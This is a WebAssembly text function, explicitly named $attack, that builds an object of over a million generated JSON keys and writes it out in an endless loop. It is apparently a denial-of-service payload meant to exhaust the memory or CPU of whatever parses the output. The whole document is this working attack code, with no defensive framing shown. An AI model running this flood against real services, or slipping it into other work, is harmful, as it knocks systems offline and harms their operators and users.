;; Writes rows of 1,003,520 columns without end.
;; A column is 10 bytes: "abcde":1, with three letters for its place in a block of 4,096, and two for the block.
(func $attack
  (local $at i32) (local $n i32) (local $letter i32) (local $block i32) (local $end i32)
  (if (i32.eq (memory.grow (i32.const 156)) (i32.const -1)) (then unreachable))
  (local.set $at (i32.const 4097))
  (loop $l
    (i64.store (local.get $at) (i64.const 0x3a22616100000022))
    (i32.store16 (i32.add (local.get $at) (i32.const 8)) (i32.const 0x2c31))
    (i32.store8 (i32.add (local.get $at) (i32.const 1))
      (i32.add (i32.const 0x61) (i32.and (local.get $n) (i32.const 15))))
    (i32.store8 (i32.add (local.get $at) (i32.const 2))
      (i32.add (i32.const 0x61) (i32.and (i32.shr_u (local.get $n) (i32.const 4)) (i32.const 15))))
    (i32.store8 (i32.add (local.get $at) (i32.const 3))
      (i32.add (i32.const 0x61) (i32.shr_u (local.get $n) (i32.const 8))))
    (local.set $at (i32.add (local.get $at) (i32.const 10)))
    (br_if $l (i32.lt_u (local.tee $n (i32.add (local.get $n) (i32.const 1))) (i32.const 4096))))
  (local.set $block (i32.const 1))
  (loop $b
    (memory.copy (local.get $at) (i32.const 4097) (i32.const 40960))
    (local.set $letter
      (i32.or
        (i32.add (i32.const 0x61) (i32.and (local.get $block) (i32.const 15)))
        (i32.shl (i32.add (i32.const 0x61) (i32.shr_u (local.get $block) (i32.const 4))) (i32.const 8))))
    (local.set $end (i32.add (local.get $at) (i32.const 40960)))
    (loop $l
      (i32.store16 (i32.add (local.get $at) (i32.const 4)) (local.get $letter))
      (br_if $l (i32.lt_u (local.tee $at (i32.add (local.get $at) (i32.const 10))) (local.get $end))))
    (br_if $b (i32.lt_u (local.tee $block (i32.add (local.get $block) (i32.const 1))) (i32.const 245))))
  (i32.store8 (i32.const 4096) (i32.const 0x7b))
  (i32.store8 (i32.sub (local.get $at) (i32.const 1)) (i32.const 0x7d))
  (loop $forever
    (call $out (i32.const 4096) (i32.const 10035201))
    (br $forever)))
